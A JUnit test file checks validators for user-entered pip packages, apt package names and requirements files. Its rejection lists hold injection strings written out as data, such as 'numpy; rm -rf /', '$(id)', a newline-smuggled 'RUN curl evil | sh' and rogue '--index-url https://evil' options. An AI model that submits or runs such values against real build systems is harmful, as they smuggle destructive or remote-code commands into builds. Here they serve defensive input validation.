package ds01.images;

import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** What a user may type as a pip package, an apt package or a requirements file, and what is refused. */
class PackagesTest {

    @Test
    void pep508NamesExtrasAndVersionsAreTakenAndNamesComparedAsPipDoes() {
        assertThat(PipPackage.parse("numpy").spec()).isEqualTo("numpy");
        assertThat(PipPackage.parse("  torch[cuda] >= 2.1 , <3 ").spec()).isEqualTo("torch[cuda]>=2.1,<3");
        assertThat(PipPackage.parse("scikit-learn~=1.4.0").name()).isEqualTo("scikit-learn");
        assertThat(PipPackage.parse("Scikit_Learn").normalizedName()).isEqualTo("scikit-learn");
        assertThat(PipPackage.parse("zope.interface==6.*").normalizedName()).isEqualTo("zope-interface");
        assertThat(PipPackage.parse("pkg===1.0+local").spec()).isEqualTo("pkg===1.0+local");
        assertThat(PipPackage.parse("opencv-python-headless!=4.9.0.80").name()).isEqualTo("opencv-python-headless");
    }

    @Test
    void injectionsUrlsOptionsAndMarkersAreRefusedWithAMessage() {
        for (String bad : List.of("numpy; rm -rf /", "$(id)", "`id`", "numpy\nRUN curl evil | sh", "\\nRUN id",
                "numpy && id", "numpy | sh", "-e git+https://x/y.git", "--index-url https://evil", "https://x/pkg.whl",
                "pkg @ https://x/pkg.whl", "numpy; python_version < \"3.8\"", "numpy>=1.0 <2", "\"numpy\"", "num py",
                "numpy>=", "", "a".repeat(201), "numpy>=1.0'", "numpy>$HOME")) {
            assertThatThrownBy(() -> PipPackage.parse(bad)).as(bad).isInstanceOf(InvalidPackageException.class)
                    .hasMessageContaining("is not a pip package").hasMessageNotContaining("\n");
        }
    }

    @Test
    void aptNamesFollowDebiansGrammar() {
        assertThat(AptPackage.parse("libgl1")).isEqualTo("libgl1");
        assertThat(AptPackage.parse("g++")).isEqualTo("g++");
        assertThat(AptPackage.parse("ffmpeg=7:5.1.6-0+deb12u1")).isEqualTo("ffmpeg=7:5.1.6-0+deb12u1");
        for (String bad : List.of("a", "Vim", "vim;id", "vim && id", "$(id)", "vim\nRUN id", "-y", "../x")) {
            assertThatThrownBy(() -> AptPackage.parse(bad)).as(bad).isInstanceOf(InvalidPackageException.class)
                    .hasMessageContaining("is not a Debian package name");
        }
    }

    @Test
    void requirementsFilesTakePackagesCommentsAndBlankLinesAndNameTheLineOfAnythingElse() {
        assertThat(Requirements.parse("# data\nnumpy>=1.26  # pinned for torch\n\npandas\r\nscipy\n"))
                .extracting(PipPackage::spec).containsExactly("numpy>=1.26", "pandas", "scipy");
        assertThatThrownBy(() -> Requirements.parse("numpy\n-r other.txt\n")).hasMessageStartingWith("line 2: ")
                .hasMessageContaining("is an option");
        assertThatThrownBy(() -> Requirements.parse("numpy\n\n--extra-index-url https://evil/simple"))
                .hasMessageStartingWith("line 3: ");
        assertThatThrownBy(() -> Requirements.parse("pandas \\\n  >=2")).hasMessageStartingWith("line 1: ")
                .hasMessageContaining("continuations");
        assertThatThrownBy(() -> Requirements.parse("numpy\nscipy; rm -rf /")).hasMessageStartingWith("line 2: ")
                .hasMessageContaining("is not a pip package");
        assertThatThrownBy(() -> Requirements.parse("x\n".repeat(1001))).hasMessageContaining("at most 1000");
    }
}
